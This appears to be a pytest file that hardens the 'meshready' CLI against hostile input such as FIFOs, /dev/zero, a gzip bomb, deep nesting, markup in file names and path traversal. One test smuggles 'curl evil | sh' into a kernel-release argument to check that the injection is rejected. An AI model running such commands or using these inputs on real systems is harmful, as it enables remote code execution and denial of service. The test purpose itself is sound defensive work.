"""Bad input, as an attacker or a clumsy operator gives it: every category of issue 13.

Each case runs the real CLI as a process (tests/agent/launch.py, i.e. `main()`), with a timeout,
and asserts the documented outcome: a one-line `meshready: error: SOURCE[:LINE]: message` and
exit 2 for bad input (1 for a cluster or node problem), never exit 3 (internal error), never a
traceback, never a hang, never a half-written file. Categories that already passed when the issue
was filed are here too, so they stay passing.
"""

from __future__ import annotations

import gzip
import json
import os
import stat
import subprocess
import threading
import time
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path

import pytest

from tests.agent.fakes import make_node
from tests.agent.process import run_cli

REPO = Path(__file__).resolve().parents[2]
KERNEL = REPO / "tests/data/kernels/6.1.0-56-cloud-amd64"
HANG = 60.0  # a case that takes this long hangs


def run(
    *args: str, timeout: float = HANG, env: dict[str, str] | None = None
) -> tuple[int, str, str]:
    try:
        proc = run_cli(*args, env=env, timeout=timeout)
    except subprocess.TimeoutExpired:
        raise AssertionError(f"hangs: meshready {' '.join(args)}") from None
    return proc.returncode, proc.stdout, proc.stderr


def clean(
    code: int, err: str, *, expect: int, source: str | None = None, error_line: bool = True
) -> None:
    assert "Traceback" not in err, err
    assert "internal error" not in err, err
    assert code == expect, f"exit {code}, expected {expect}: {err}"
    if error_line and expect in (1, 2):
        lines = [line for line in err.splitlines() if line.startswith("meshready: error:")]
        assert len(lines) == 1, err
        if source is not None:
            assert lines[0].startswith(f"meshready: error: {source}"), lines[0]


def bad(*args: str, expect: int = 2, source: str | None = None) -> str:
    code, _, err = run(*args)
    clean(code, err, expect=expect, source=source)
    return err


# ------------------------------------------------------------------ unbounded and blocking reads


@pytest.fixture
def fifo(tmp_path: Path) -> Path:
    path = tmp_path / "fifo"
    os.mkfifo(path)
    return path


@pytest.fixture
def bomb(tmp_path: Path) -> Path:
    """A gzip file of 1 MB that decompresses to 1 GiB."""
    path = tmp_path / "bomb.gz"
    with gzip.open(path, "wb", compresslevel=9) as fh:
        zeros = b"\0" * (1 << 20)
        for _ in range(1024):
            fh.write(zeros)
    return path


def test_dev_zero_and_fifos_as_rules_files(fifo: Path) -> None:
    bad("check", "--rules", "/dev/zero", "--kernel-release", "6.1.0", source="/dev/zero")
    bad("check", "--rules", str(fifo), "--kernel-release", "6.1.0", source=str(fifo))
    bad("needs", "--rules", "/dev/zero", source="/dev/zero")


def test_directories_and_missing_files_as_rules(tmp_path: Path) -> None:
    bad("check", "--rules", str(tmp_path), "--kernel-release", "6.1.0")
    bad("check", "--rules", str(tmp_path / "none"), "--kernel-release", "6.1.0")
    loop = tmp_path / "loop"
    loop.symlink_to(loop)
    bad("check", "--rules", str(loop), "--kernel-release", "6.1.0")


def test_oversized_rules_file(tmp_path: Path) -> None:
    big = tmp_path / "big.rules"
    with big.open("wb") as fh:
        fh.truncate(65 * 1024 * 1024)  # sparse: 65 MiB of NULs, more than the cap
    err = bad("check", "--rules", str(big), "--kernel-release", "6.1.0", source=str(big))
    assert "too large" in err


@pytest.fixture
def lsmod(tmp_path: Path) -> Path:
    path = tmp_path / "lsmod.txt"
    path.write_text("Module                  Size  Used by\nx_tables               1  0\n")
    return path


def test_kernel_config_gzip_bomb_and_devices(bomb: Path, fifo: Path, lsmod: Path) -> None:
    base = (
        "check",
        "--profile",
        "istio-sidecar",
        "--kernel-release",
        "6.1.0",
        "--lsmod",
        str(lsmod),
    )
    err = bad(*base, "--kernel-config", str(bomb), source=str(bomb))
    assert "decompresses to more than" in err
    bad(*base, "--kernel-config", "/dev/zero", source="/dev/zero")
    bad(*base, "--kernel-config", str(fifo), source=str(fifo))


def test_lsmod_from_devices(fifo: Path) -> None:
    base = ("check", "--profile", "istio-sidecar", "--kernel-release", "6.1.0")
    bad(*base, "--lsmod", "/dev/zero", source="/dev/zero")
    bad(*base, "--lsmod", str(fifo), source=str(fifo))


def test_module_index_files_that_are_devices_or_fifos(tmp_path: Path, lsmod: Path) -> None:
    moddir = tmp_path / "6.1.0-56-cloud-amd64"
    moddir.mkdir()
    for name in ("modules.dep", "modules.builtin"):
        (moddir / name).write_bytes((KERNEL / name).read_bytes())
    os.mkfifo(moddir / "modules.alias")
    (moddir / "modules.softdep").symlink_to("/dev/zero")
    bad(
        "check",
        "--profile",
        "istio-sidecar",
        "--modules-dir",
        str(moddir),
        "--lsmod",
        str(lsmod),
    )


def test_diagnose_reads_from_fifos_and_devices(fifo: Path) -> None:
    bad("diagnose", str(fifo), source=str(fifo))
    bad("diagnose", "/dev/zero")


def test_kubeconfig_from_a_device_or_fifo(fifo: Path) -> None:
    bad("status", "--kubeconfig", "/dev/zero", expect=1)
    bad("status", "--kubeconfig", str(fifo), expect=1)


def test_fifo_in_modules_load_d_does_not_block_check(tmp_path: Path) -> None:
    node = make_node(tmp_path / "node")
    os.mkfifo(node.host / "etc/modules-load.d/evil.conf")
    (node.host / "etc/modules-load.d/zero.conf").symlink_to("/dev/zero")
    code, _, err = run("check", "--profile", "istio-sidecar", "--host-root", str(node.host))
    assert code in (0, 1), err
    assert "Traceback" not in err


def test_agent_with_a_fifo_in_modules_load_d_stops_on_sigterm(tmp_path: Path) -> None:
    from tests.agent.process import AgentProcess

    node = make_node(tmp_path / "node")
    os.mkfifo(node.host / "etc/modules-load.d/evil.conf")
    args = ["--no-cluster", *node.agent_args(), "--probe-mode", "off", "--loader", "python",
            "--interval", "3600"]  # fmt: skip
    with AgentProcess(args, tmp_path / "agent.log", loader="fake") as agent:
        agent.wait_for(lambda: agent.get("/readyz")[0] in (200, 503), what="agent up")
        agent.wait_for(lambda: "check (start)" in agent.output(), what="first check")
        assert agent.terminate(timeout=10) == 0


# ------------------------------------------------------------------------- deep nesting


def test_deeply_nested_json_log_line(tmp_path: Path) -> None:
    log = tmp_path / "init.log"
    log.write_text("[" * 100_000 + "]" * 100_000 + "\niptables-restore: line 3 failed\n")
    code, _, err = run("diagnose", str(log))
    clean(code, err, expect=code if code in (0, 1) else -1, error_line=False)


def test_deeply_nested_yaml_kubeconfig(tmp_path: Path) -> None:
    config = tmp_path / "kubeconfig"
    config.write_text("a: " + "[" * 50_000 + "]" * 50_000 + "\n")
    bad("status", "--kubeconfig", str(config), expect=1)


def test_module_dependency_chain_a_thousand_deep(tmp_path: Path) -> None:
    """A crafted modules.dep: xt_owner depends on m1, m1 on m2, ... m1000 (and softdeps)."""
    moddir = tmp_path / "6.1.0-deep"
    moddir.mkdir()
    depth = 1000
    lines = [
        f"kernel/m{i}.ko: " + " ".join(f"kernel/m{j}.ko" for j in range(i + 1, min(i + 2, depth)))
        for i in range(depth)
    ]
    base = (KERNEL / "modules.dep").read_text().splitlines()
    base = [
        (line + " kernel/m0.ko")
        if line.startswith(("kernel/net/netfilter/xt_owner.ko:",))
        else line
        for line in base
    ]
    (moddir / "modules.dep").write_text("\n".join(base + lines) + "\n")
    (moddir / "modules.alias").write_bytes((KERNEL / "modules.alias").read_bytes())
    (moddir / "modules.builtin").write_bytes((KERNEL / "modules.builtin").read_bytes())
    soft = [f"softdep m{i} pre: m{i + 1}" for i in range(depth - 1)]
    (moddir / "modules.softdep").write_text("\n".join(soft) + "\n")
    code, out, err = run("needs", "--profile", "istio-sidecar", "--modules-dir", str(moddir))
    clean(code, err, expect=0)
    assert "m999" in out


# ------------------------------------------------------------------ printed text and markup


def test_square_brackets_in_printed_text(tmp_path: Path, lsmod: Path) -> None:
    node = make_node(tmp_path / "node")
    (node.host / "etc/modules-load.d/x.conf").write_text("[bold]xt_owner[/bold]\n[/]\n")
    rules = tmp_path / "[red]rules[x].rules"
    rules.write_text("*nat\n-A OUTPUT -p tcp -j REDIRECT --to-ports 15001\nCOMMIT\n")
    code, out, err = run("check", "--rules", str(rules), "--host-root", str(node.host))
    clean(code, err, expect=code if code in (0, 1) else -1, error_line=False)
    assert "[red]rules[x]" in out
    release = "6.1.0-[bold]evil[x]"
    code, out, err = run(
        "check",
        "--profile",
        "istio-sidecar",
        "--kernel-release",
        release,
        "--lsmod",
        str(lsmod),
    )
    clean(code, err, expect=code if code in (0, 1) else -1, error_line=False)
    assert release in out


# --------------------------------------------------------------------- wrong exit 0


def test_render_bootstrap_host_root_that_is_not_a_directory(tmp_path: Path) -> None:
    (tmp_path / "file").write_text("x")
    (tmp_path / "loop").symlink_to(tmp_path / "loop")
    for root in (tmp_path / "missing", tmp_path / "file", tmp_path / "loop"):
        bad("render", "bootstrap", "--provider", "oke", "--profile", "istio-sidecar",
            "--host-root", str(root))  # fmt: skip


def test_render_manifests_values_with_a_trailing_newline() -> None:
    bad("render", "manifests", "--namespace", "ns\n", source="--namespace")
    bad("render", "manifests", "--taint-key", "meshready.io/x\n", source="--taint-key")


def test_render_manifests_output_dir_at_a_bad_path(tmp_path: Path) -> None:
    (tmp_path / "file").write_text("x")
    bad("render", "manifests", "--output-dir", str(tmp_path / "file" / "deploy"))
    bad("render", "manifests", "--output-dir", "/proc/version/deploy")


# ---------------------------------------------------------------------------- injection


def test_newline_in_a_rules_file_name_never_reaches_generated_files(tmp_path: Path) -> None:
    name = tmp_path / "a\nvfat\n.rules"
    name.write_text("*nat\n-A OUTPUT -p tcp -j REDIRECT --to-ports 15001\nCOMMIT\n")
    for provider in ("modules-load", "oke", "cloud-init"):
        code, out, err = run("render", "bootstrap", "--provider", provider, "--rules", str(name))
        clean(code, err, expect=2)
        assert "vfat" not in out


def test_newline_in_kernel_release_never_reaches_the_oke_script(
    tmp_path: Path, lsmod: Path
) -> None:
    modules = tmp_path / "modules"
    (modules / "6.1.0").mkdir(parents=True)
    for name in ("modules.dep", "modules.alias", "modules.builtin"):
        (modules / "6.1.0" / name).write_bytes((KERNEL / name).read_bytes())
    for provider in ("oke", "modules-load"):
        for extra in ((), ("--modules-dir", str(modules))):
            code, out, err = run(
                "render", "bootstrap", "--provider", provider, "--profile", "istio-sidecar",
                "--kernel-release", "6.1.0\ncurl evil | sh", *extra,
            )  # fmt: skip
            clean(code, err, expect=2, source="--kernel-release")
            assert "curl evil" not in out
    bad("check", "--profile", "istio-sidecar", "--kernel-release", "../../etc",
        "--modules-dir", str(modules), "--lsmod", str(lsmod), source="--kernel-release")  # fmt: skip


def test_fix_never_writes_a_header_with_a_newline(tmp_path: Path) -> None:
    node = make_node(tmp_path / "node")
    name = tmp_path / "r\nvfat\n.rules"
    name.write_text("*nat\n-A OUTPUT -p tcp -j REDIRECT --to-ports 15001\nCOMMIT\n")
    code, _, err = run_fix(node, "--rules", str(name))
    assert code in (1, 2) and "Traceback" not in err, err
    assert node.persisted() is None  # nothing half-written


def run_fix(node: object, *args: str) -> tuple[int, str, str]:
    proc = run_cli("fix", *args, *node.agent_args(), "--loader", "python",  # type: ignore[attr-defined]
                   env={"MESHREADY_TEST_LOADER": "fake"}, timeout=HANG)  # fmt: skip
    return proc.returncode, proc.stdout, proc.stderr


# ------------------------------------------------------------------- cluster inputs


class _NoContentType(BaseHTTPRequestHandler):
    def do_GET(self) -> None:
        self.send_response(500)
        self.send_header("Content-Length", "4")
        self.end_headers()
        self.wfile.write(b"boom")

    def log_message(self, format: str, *args: object) -> None:
        pass


@pytest.fixture
def no_content_type_server() -> Iterator[str]:
    server = ThreadingHTTPServer(("127.0.0.1", 0), _NoContentType)
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    yield f"http://127.0.0.1:{server.server_address[1]}"
    server.shutdown()
    server.server_close()


def _kubeconfig(path: Path, server: str, user: dict[str, object]) -> Path:
    path.write_text(json.dumps({
        "apiVersion": "v1", "kind": "Config", "current-context": "c",
        "clusters": [{"name": "c", "cluster": {"server": server}}],
        "users": [{"name": "u", "user": user}],
        "contexts": [{"name": "c", "context": {"cluster": "c", "user": "u"}}],
    }))  # fmt: skip
    return path


def test_http_error_without_content_type(tmp_path: Path, no_content_type_server: str) -> None:
    config = _kubeconfig(tmp_path / "kc", no_content_type_server, {"token": "t"})
    bad("status", "--kubeconfig", str(config), expect=1)


def _plugin(tmp_path: Path, body: str) -> dict[str, object]:
    script = tmp_path / "plugin"
    script.write_text("#!/bin/sh\n" + body)
    script.chmod(script.stat().st_mode | stat.S_IXUSR)
    return {"exec": {"apiVersion": "client.authentication.k8s.io/v1beta1", "command": str(script)}}


def test_exec_plugin_printing_non_json(tmp_path: Path, no_content_type_server: str) -> None:
    config = _kubeconfig(tmp_path / "kc", no_content_type_server, _plugin(tmp_path, "echo hello\n"))
    err = bad("status", "--kubeconfig", str(config), expect=1)
    assert "ExecCredential" in err


def test_exec_plugin_that_never_exits_is_bounded() -> None:
    from lightkube import ConfigError
    from lightkube.config.client_adapter import ExecAuth
    from lightkube.config.models import UserExec

    from meshready.cluster.guard import BoundedExecAuth

    auth = BoundedExecAuth(
        ExecAuth(
            UserExec(
                apiVersion="client.authentication.k8s.io/v1beta1", command="sleep", args=["600"]
            )
        ),
        timeout=1.0,
    )
    started = time.monotonic()
    with pytest.raises(ConfigError, match="did not finish"):
        auth._token()
    assert time.monotonic() - started < 5


def test_uninstall_against_an_unreachable_server(tmp_path: Path) -> None:
    config = _kubeconfig(tmp_path / "kc", "https://127.0.0.1:1", {"token": "t"})
    bad("uninstall", "--kubeconfig", str(config), "--timeout", "5", expect=1)
    bad("status", "--kubeconfig", str(config), expect=1)


def test_agent_node_name_is_validated(tmp_path: Path) -> None:
    config = _kubeconfig(tmp_path / "kc", "https://127.0.0.1:1", {"token": "t"})
    for name in ("../secrets/x", "Node_1", "a" * 254):
        bad("agent", "--once", "--node-name", name, "--kubeconfig", str(config),
            "--probe-mode", "off", source="--node-name")  # fmt: skip


# ------------------------------------------------------------------- the metrics server


def test_metrics_server_bounds_idle_connections() -> None:
    import socket

    from meshready.agent.metrics import Metrics
    from meshready.agent.server import CONNECTION_TIMEOUT, MAX_CONNECTIONS, Health, HealthServer

    server = HealthServer(("127.0.0.1", 0), Health(), Metrics()).start()
    try:
        before = threading.active_count()
        idle = [socket.create_connection(("127.0.0.1", server.port)) for _ in range(100)]
        time.sleep(0.5)
        assert threading.active_count() - before <= MAX_CONNECTIONS
        time.sleep(CONNECTION_TIMEOUT + 1.0)  # idle connections are dropped
        with socket.create_connection(("127.0.0.1", server.port), timeout=5) as sock:
            sock.sendall(b"GET /healthz HTTP/1.0\r\n\r\n")
            assert sock.recv(100).startswith(b"HTTP/1.0 200")
        for sock in idle:
            sock.close()
    finally:
        server.close()


# ------------------------------------------------------------------------------ needs


def _index_without_owner(base: Path, extra_alias: str = "") -> Path:
    moddir = base / "6.1.0-x"
    moddir.mkdir(parents=True)
    (moddir / "modules.builtin").write_bytes((KERNEL / "modules.builtin").read_bytes())
    dep = [
        line for line in (KERNEL / "modules.dep").read_text().splitlines() if "xt_owner" not in line
    ]
    (moddir / "modules.dep").write_text("\n".join(dep) + "\n")
    alias = [
        line
        for line in (KERNEL / "modules.alias").read_text().splitlines()
        if "xt_owner" not in line
    ]
    (moddir / "modules.alias").write_text("\n".join(alias) + "\n" + extra_alias)
    return moddir


def test_needs_never_drops_a_request_nothing_answers(tmp_path: Path) -> None:
    moddir = _index_without_owner(tmp_path)
    code, out, err = run("needs", "--profile", "istio-sidecar", "--modules-dir", str(moddir))
    clean(code, err, expect=1, error_line=False)
    assert "ipt_owner" in err and "xt_owner" not in out


def test_needs_never_prints_a_path_as_a_module(tmp_path: Path) -> None:
    moddir = _index_without_owner(tmp_path, "alias ipt_owner ../../etc/evil\n")
    code, out, err = run("needs", "--profile", "istio-sidecar", "--modules-dir", str(moddir))
    clean(code, err, expect=2, source=str(moddir / "modules.alias"))
    assert "evil" not in out


def test_deeply_nested_nft_rules(tmp_path: Path) -> None:
    deep = tmp_path / "deep.nft"
    deep.write_text(
        "table inet t {\n chain c {\n ip daddr " + "{" * 50_000 + "}" * 50_000 + " accept\n }\n}\n"
    )
    code, _, err = run("needs", "--rules", str(deep))
    clean(code, err, expect=code if code in (0, 1, 2) else -1, error_line=code == 2)
    open_only = tmp_path / "open.nft"
    open_only.write_text("table inet t " + "{" * 50_000 + "\n")
    bad("needs", "--rules", str(open_only), source=str(open_only))
